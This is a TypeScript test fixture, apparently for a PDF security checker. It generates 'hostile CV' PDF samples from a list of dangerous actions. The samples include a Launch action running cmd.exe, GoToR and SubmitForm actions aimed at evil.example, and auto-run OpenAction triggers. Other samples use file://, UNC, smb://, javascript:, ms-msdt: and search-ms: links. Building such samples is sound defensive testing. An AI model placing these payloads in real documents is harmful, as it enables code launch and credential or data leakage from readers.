import { streamObject } from '../build-pdf.ts';
import type { HostileCv } from '../hostile-cv.ts';
import { launch, link, pdfs, share } from './pdfs.ts';

export function actions(): HostileCv[] {
  const onClick: readonly (readonly [string, HostileCv['held']])[] = [
    [launch, 'startsProgram'],
    ['<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>', 'startsProgram'],
    [`<< /S /GoToR /F ${share} /D [0 /Fit] >>`, 'fetches'],
    [`<< /S /GoToR /F << /F ${share} >> /D [0 /Fit] >>`, 'fetches'],
    ['<< /S /GoToR /F (http://evil.example/x.pdf) /D [0 /Fit] >>', 'fetches'],
    [`<< /S /GoToE /F ${share} /T << /R /C /N (a) >> >>`, 'attachment'],
    ['<< /S /SubmitForm /F (http://evil.example/) /Flags 4 >>', 'activeForm'],
    [`<< /S /ImportData /F ${share} >>`, 'activeForm'],
    ['<< /S /ResetForm >>', 'activeForm'],
    ['<< /S /Hide /T (a) >>', 'activeForm'],
    ['<< /S /Named /N /Print >>', 'activeForm'],
    ['<< /S /Named /N /SaveAs >>', 'activeForm'],
    ['<< /S /Rendition /OP 0 >>', 'media'],
    ['<< /S /Movie /T (a) >>', 'media'],
    ['<< /S /Sound /Sound 5 0 R >>', 'media'],
    ['<< /S /RichMediaExecute /CMD << /C (x) >> >>', 'media'],
    ['<< /S /GoTo3DView /TA 5 0 R >>', 'media'],
    [`<< /S /Thread /F ${share} /D 0 >>`, 'fetches'],
    ['<< /S /SetOCGState /State [/ON 5 0 R] >>', 'activeForm'],
    ['<< /S /SomethingNew >>', 'unknownPart'],
    ['<< /S /URI /URI (file://10.0.0.1/share/x) >>', 'oddLink'],
    ['<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>', 'oddLink'],
    ['<< /S /URI /URI (\\\\\\\\10.0.0.1\\\\share) >>', 'oddLink'],
    ['<< /S /URI /URI (//10.0.0.1/share) >>', 'oddLink'],
    ['<< /S /URI /URI (javascript:app.alert\\(1\\)) >>', 'oddLink'],
    ['<< /S /URI /URI (java\\nscript:alert\\(1\\)) >>', 'oddLink'],
    ['<< /S /URI /URI (ms-msdt:/id) >>', 'oddLink'],
    ['<< /S /URI /URI (search-ms:query=x&crumb=location:\\\\\\\\evil) >>', 'oddLink'],
    ['<< /S /URI /URI (data:text/html,x) >>', 'oddLink'],
    ['<< /S /URI /URI (smb://evil/x) >>', 'oddLink'],
    ['<< /S /URI /URI <66696c653a2f2f31302e302e302e312f78> >>', 'oddLink'],
    ['<< /S /URI /URI 5 0 R >>', 'oddLink'],
  ];
  const uri = '<< /S /URI /URI (http://evil.example/) >>';
  return [
    ...onClick.flatMap(([action, held]) =>
      pdfs('an action on a click', held, { page: link(action), extraObjects: ['(file:////evil/x)'] }),
    ),
    ...pdfs(
      'a page opened by itself',
      'opensByItself',
      ...[
        `/OpenAction ${uri}`,
        `/AA << /WP ${uri} >>`,
        `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${uri} >>`,
      ].map((catalog) => ({ catalog })),
      { page: `/AA << /O ${uri} >>` },
      { page: `/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 1 1] /AA << /PO ${uri} >> >>]` },
    ),
    ...pdfs('a link to a share by its base', 'oddLink', { catalog: '/URI << /Base (file://10.0.0.1/) >>' }),
    ...pdfs(
      'a form that is a program',
      'activeForm',
      { catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>', extraObjects: [streamObject('', '<xdp/>')] },
      { catalog: '/AcroForm << /Fields [] /X#46A [(template) 5 0 R] >>' },
    ),
    ...pdfs(
      'media',
      'media',
      ...['Screen', 'Movie', 'Sound', '3D', 'RichMedia'].map((kind) => ({
        page: `/Annots [<< /Type /Annot /Subtype /${kind} /Rect [0 0 9 9] >>]`,
      })),
      { page: '/Annots [5 0 R]', extraObjects: ['<< /Subtype 6 0 R /Rect [0 0 9 9] >>', '/RichMedia'] },
      { catalog: '/Names << /Renditions << /Names [] >> >>' },
    ),
    ...pdfs('media', 'unknownPart', { page: '/Annots [<< /Subtype /Unheard /Rect [0 0 9 9] >>]' }),
    ...pdfs(
      'bytes from another file',
      'fetches',
      { extraObjects: [`<< /Length 0 /F ${share} >>\nstream\n\nendstream`] },
      { extraObjects: [streamObject(`/Subtype /Form /Ref << /F ${share} /Page 0 >>`, '')] },
    ),
  ];
}
